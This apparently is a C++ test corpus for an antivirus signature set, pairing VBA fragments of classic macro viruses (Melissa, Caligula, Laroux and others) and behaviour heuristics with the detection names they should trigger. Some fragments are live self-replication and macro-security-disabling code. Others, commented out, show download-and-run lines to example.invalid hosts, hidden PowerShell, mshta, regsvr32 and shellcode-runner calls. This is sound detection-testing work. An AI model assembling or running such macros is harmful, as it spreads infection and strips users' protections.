// Positive module corpus: for every named family and every behaviour rule, fragments that
// carry the characteristic names, strings and calls. They are not working code: loops,
// targets and payloads are cut out, and every address is a reserved example name.
#include "tests/signature_set/corpus.h"

namespace qv::test::sigset {
namespace {

constexpr char kMelissa[] = "Macro.Word97.Melissa";
constexpr char kMarker[] = "Macro.Word97.Marker";
constexpr char kClass[] = "Macro.Word97.Class";
constexpr char kEthan[] = "Macro.Word97.Ethan";
constexpr char kThus[] = "Macro.Word97.Thus";
constexpr char kCaligula[] = "Macro.Word97.Caligula";
constexpr char kConcept[] = "Macro.Word97.Concept";
constexpr char kWazzu[] = "Macro.Word97.Wazzu";
constexpr char kNuclear[] = "Macro.Word97.Nuclear";
constexpr char kCap[] = "Macro.Word97.Cap";
constexpr char kLaroux[] = "Macro.Excel97.Laroux";
constexpr char kTristate[] = "Macro.Office97.Tristate";
constexpr char kSelfReplicate[] = "Macro.Heur.AutoExec.SelfReplicate";
constexpr char kDownloader[] = "Macro.Heur.AutoExec.Downloader";
constexpr char kShellcode[] = "Macro.Heur.AutoExec.ShellcodeRunner";
constexpr char kLauncher[] = "Macro.Heur.AutoExec.ShellLauncher";
constexpr char kProtection[] = "Macro.Heur.AutoExec.DisableProtection";

std::vector<CorpusCase> Families() {
  return {
      {"Melissa: mailer identifiers, subject and body",
       DocumentModule("Melissa", R"vba(Private Sub Document_Open()
On Error Resume Next
Dim UngaDasOutlook, DasMapiName, BreakUmOffASlice
' the address-book loop is cut out of this fragment
BreakUmOffASlice.Subject = "Important Message From " & Application.UserName
BreakUmOffASlice.Body = "Here is that document you asked for ... don't show anyone else ;-)"
Set ADI1 = ActiveDocument.VBProject.VBComponents.Item(1)
' ADI1.CodeModule.InsertLines ... (cut)
End Sub
)vba"),
       {kMelissa}},
      {"Melissa variant: identifiers renamed, marker and payload text kept",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Close()
If System.PrivateProfileString("", "HKEY_CURRENT_USER\Software\Microsoft\Office\", "Melissa?") <> "... by Kwyjibo" Then
End If
If Day(Now) = Minute(Now) Then Selection.TypeText " Twenty-two points, plus triple-word-score, plus fifty points for using all my letters."
End Sub
)vba"),
       {kMelissa}},
      {"Marker: marker comment and the FTP script files",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Close()
On Error Resume Next
Const Marker = "<- this is a marker!"
Options.VirusProtection = False
Open "c:\netldx.vxd" For Output As #1
' Print #1, "o 209.201.88.110"  (script lines cut)
Close #1
' upload of c:\hsf.sys cut
End Sub
)vba"),
       {kMarker}},
      {"Class: payload message and author tag",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Close()
On Error Resume Next
Options.VirusProtection = False
If Day(Now()) = 14 Then MsgBox "I think " & Application.UserName & " is a big stupid jerk!", 0, "VicodinES Loves You"
' replication through the class module cut
End Sub
)vba"),
       {kClass}},
      {"Ethan: code file, title and author payload",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Close()
On Error Resume Next
If Dir("c:\ethan.___", 6) = "" Then Exit Sub
' ...CodeModule.AddFromFile "c:\ethan.___"  (cut)
ActiveDocument.BuiltInDocumentProperties("Title") = "Ethan Frome"
ActiveDocument.BuiltInDocumentProperties("Author") = "EW/LN/CB"
ActiveDocument.BuiltInDocumentProperties("Keywords") = "Ethan"
End Sub
)vba"),
       {kEthan}},
      {"Thus: infection marker and the date check",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
On Error Resume Next
Options.VirusProtection = False
Set NT = NormalTemplate.VBProject.VBComponents(1).CodeModule
If NT.Lines(1, 1) <> "'Thus_001'" Then
' NT.InsertLines ... (cut)
End If
If Day(Now()) = 13 And Month(Now()) = 12 Then
' payload cut
End If
End Sub
)vba"),
       {kThus}},
      {"Caligula: marker, author and the key ring it looks for",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Close()
On Error Resume Next
System.PrivateProfileString("", "HKEY_CURRENT_USER\Software\Microsoft\MS Setup (ACME)\User Info", "Caligula") = "By Opic [CodeBreakers 1998]"
' search for secring.skr and the upload cut
End Sub
)vba"),
       {kCaligula}},
      {"Concept converted to VBA: its macro names and the PayLoad remark",
       StandardModule("AAAZAO", R"vba(Public Sub MAIN()
' converted from WordBasic; copy of AAAZFS to the global template cut
End Sub
' That's enough to prove my point
)vba"),
       {kConcept}},
      {"Wazzu converted to VBA: the copy to Global:AutoOpen and the inserted word",
       StandardModule("AutoOpen", R"vba(Public Sub MAIN()
On Error Resume Next
WordBasic.MacroCopy WordBasic.[FileName$]() + ":autoOpen", "Global:autoOpen"
' word shuffling cut
WordBasic.Insert "wazzu "
End Sub
)vba"),
       {kWazzu}},
      {"Nuclear converted to VBA: protest text and macro names",
       StandardModule("InsertPayload", R"vba(Public Sub MAIN()
' called by FilePrint; DropSuriv cut
WordBasic.Insert "And finally I would like to say:"
WordBasic.Insert "STOP ALL FRENCH NUCLEAR TESTING IN THE PACIFIC!"
End Sub
)vba"),
       {kNuclear}},
      {"Cap converted to VBA: the author's remark",
       StandardModule("CAP", R"vba(Public Sub MAIN()
REM C.A.P: Un virus social.. y ahora digital..
REM "j4cKy Qw3rTy" (jqw3rty@hotmail.com). jj - Venezuela
End Sub
)vba"),
       {kCap}},
      {"Laroux: the sheet hook and the copy to the personal workbook",
       StandardModule("laroux", R"vba(Sub auto_open()
    Application.OnSheetActivate = "check_files"
End Sub

Sub check_files()
    c$ = Application.StartupPath
    m$ = Dir(c$ & "\" & "PERSONAL.XLS")
    whichfile = p + w * 10
    ' Sheets("laroux").Copy and the SaveAs cut
End Sub
)vba"),
       {kLaroux}},
      {"Tristate: the three host templates in one module",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Close()
On Error Resume Next
' Word: NormalTemplate.VBProject.VBComponents(1).CodeModule (cut)
' Excel: Application.StartupPath & "\XLSTART\Book1." (cut)
' PowerPoint: "Blank Presentation.pot" (cut)
End Sub
)vba"),
       {kTristate}},
  };
}

std::vector<CorpusCase> Behaviours() {
  return {
      // ---- self-replication ----
      {"SelfReplicate: Document_Close writes lines into the global template",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Close()
On Error Resume Next
Set target = NormalTemplate.VBProject.VBComponents(1).CodeModule
Set source = ThisDocument.VBProject.VBComponents(1).CodeModule
If target.CountOfLines < 2 Then target.InsertLines 1, source.Lines(1, source.CountOfLines)
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: Workbook_Open imports a module file into the active workbook",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_Open()
Dim f As String
f = Environ("TEMP") & "\m.bas"
ActiveWorkbook.VBProject.VBComponents.Import f
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: AutoOpen copies its project items with the organizer",
       StandardModule("Module1", R"vba(Sub AutoOpen()
Application.OrganizerCopy Source:=ActiveDocument.FullName, Destination:=NormalTemplate.FullName, _
    Name:="Module1", Object:=wdOrganizerObjectProjectItems
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: Auto_Open saves a copy into the start-up folder",
       StandardModule("Module1", R"vba(Sub Auto_Open()
If Dir(Application.StartupPath & "\book.xls") = "" Then
    ThisWorkbook.SaveCopyAs Application.StartupPath & "\book.xls"
End If
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: converted AutoExec macro with MacroCopy",
       StandardModule("AutoExec", R"vba(Public Sub MAIN()
WordBasic.MacroCopy WordBasic.[FileName$]() + ":Payload", "Global:Payload", 1
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: a taken-over FileSave adds code from a string",
       StandardModule("Module1", R"vba(Sub FileSave()
ActiveDocument.VBProject.VBComponents(1).CodeModule.AddFromString body
ActiveDocument.Save
End Sub
)vba"),
       {kSelfReplicate}},
      // ---- protection switched off ----
      {"DisableProtection: Document_Open clears the virus-protection option",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
Options.VirusProtection = False
Options.SaveNormalPrompt = False
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: Workbook_Open writes AccessVBOM and VBAWarnings",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_Open()
Set w = CreateObject("WScript.Shell")
w.RegWrite "HKCU\Software\Microsoft\Office\" & Application.Version & "\Excel\Security\AccessVBOM", 1, "REG_DWORD"
w.RegWrite "HKCU\Software\Microsoft\Office\" & Application.Version & "\Excel\Security\VBAWarnings", 1, "REG_DWORD"
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: AutoOpen lowers the security level and hides the macro menu",
       StandardModule("Module1", R"vba(Sub AutoOpen()
System.PrivateProfileString("", "HKEY_CURRENT_USER\Software\Microsoft\Office\9.0\Word\Security", "Level") = 1&
CommandBars("Tools").Controls("Macro").Enabled = False
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: Esc switched off in code that reads the VBA project",
       StandardModule("Module1", R"vba(Sub AutoClose()
Application.EnableCancelKey = wdCancelDisabled
n = NormalTemplate.VBProject.VBComponents.Count
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: automation security lowered at opening",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
Application.AutomationSecurity = msoAutomationSecurityLow
End Sub
)vba"),
       {kProtection}},
      // ---- download and run ----
      {"Downloader: AutoOpen with URLDownloadToFile and Shell",
       StandardModule("Module1", R"vba(Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
Sub AutoOpen()
' URLDownloadToFileA 0, "http://example.invalid/a", Environ("TEMP") & "\a.exe", 0, 0  (cut)
' Shell Environ("TEMP") & "\a.exe", vbHide  (cut)
End Sub
)vba"),
       {kDownloader}},
      {"Downloader: Document_Open with XMLHTTP and an ADODB stream saved to a file",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "http://example.invalid/b", False
Set s = CreateObject("ADODB.Stream")
' s.Write h.responseBody: s.SaveToFile Environ("TEMP") & "\b.bin", 2  (cut)
End Sub
)vba"),
       {kDownloader}},
      {"Downloader: Workbook_Open with WinHttp and Shell.Application",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_Open()
Set r = CreateObject("WinHttp.WinHttpRequest.5.1")
' r.Open "GET", "http://example.invalid/c": r.Send  (cut)
Set app = CreateObject("Shell.Application")
End Sub
)vba"),
       {kDownloader}},
      {"Downloader: certutil fetching a file from AutoClose",
       StandardModule("Module1", R"vba(Sub AutoClose()
' Shell "certutil -urlcache -split -f http://example.invalid/d d.txt"  (cut)
End Sub
)vba"),
       {kDownloader}},
      {"Downloader: PowerShell download string started from an ActiveX paint event",
       DocumentModule("ThisDocument", R"vba(Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As MSINKAUTLib.IInkRectangle)
' CreateObject("WScript.Shell").Run "powershell -c (New-Object Net.WebClient).DownloadString('http://example.invalid/e')"  (cut)
End Sub
)vba"),
       {kDownloader}},
      // ---- run a program of the system ----
      {"ShellLauncher: AutoOpen starts hidden PowerShell",
       StandardModule("Module1", R"vba(Sub AutoOpen()
' Shell "powershell -nop -w hidden -enc AAAA", vbHide  (cut)
End Sub
)vba"),
       {kLauncher}},
      {"ShellLauncher: Workbook_Open runs mshta through WScript.Shell",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_Open()
' CreateObject("WScript.Shell").Run "mshta about:blank", 0  (cut)
End Sub
)vba"),
       {kLauncher}},
      {"ShellLauncher: Document_Open creates a rundll32 process through WMI",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
' GetObject("winmgmts:Win32_Process").Create "rundll32.exe x.dll,Start"  (cut)
End Sub
)vba"),
       {kLauncher}},
      {"ShellLauncher: Auto_Close registers a scriptlet with regsvr32",
       StandardModule("Module1", R"vba(Sub Auto_Close()
' x = Shell("regsvr32 /s /n /u /i:x.sct scrobj.dll")  (cut)
End Sub
)vba"),
       {kLauncher}},
      // ---- code run from memory ----
      {"ShellcodeRunner: VirtualAlloc, RtlMoveMemory and CreateThread declared for AutoOpen",
       StandardModule("Module1", R"vba(Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal a As LongPtr, ByRef b As Any, ByVal c As Long) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr
Sub AutoOpen()
' buffer, copy and thread cut
End Sub
)vba"),
       {kShellcode}},
      {"ShellcodeRunner: Workbook_Open with a locale enumeration callback",
       DocumentModule("ThisWorkbook", R"vba(Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
Private Declare PtrSafe Function EnumSystemLocalesA Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long) As Long
Private Sub Workbook_Open()
' p = VirtualAlloc(0, 4096, &H3000, &H40): EnumSystemLocalesA p, 0  (cut)
End Sub
)vba"),
       {kShellcode}},
      // ---- precedence: one name per module ----
      {"a downloader that also replicates is named SelfReplicate only",
       StandardModule("Module1", R"vba(Sub AutoOpen()
NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString body
' URLDownloadToFile 0, u, f, 0, 0: Shell(f) cut
End Sub
)vba"),
       {kSelfReplicate}},
      {"a launcher that also switches protection off is named ShellLauncher only",
       StandardModule("Module1", R"vba(Sub AutoOpen()
Options.VirusProtection = False
' Shell "cmd /c echo", vbHide  (cut)
End Sub
)vba"),
       {kLauncher}},
      {"the test string beside a family is reported under both names",
       StandardModule("AAAZFS", R"vba(Public Sub MAIN()
' AAAZAO
MsgBox "QUORVANE-MACRO-TEST-SIGNATURE"
End Sub
)vba"),
       {"Macro.Test.Signature", kConcept}},
  };
}

}  // namespace

std::vector<CorpusCase> PositiveModules() {
  std::vector<CorpusCase> all = Families();
  for (CorpusCase& c : Behaviours()) all.push_back(std::move(c));
  return all;
}

}  // namespace qv::test::sigset
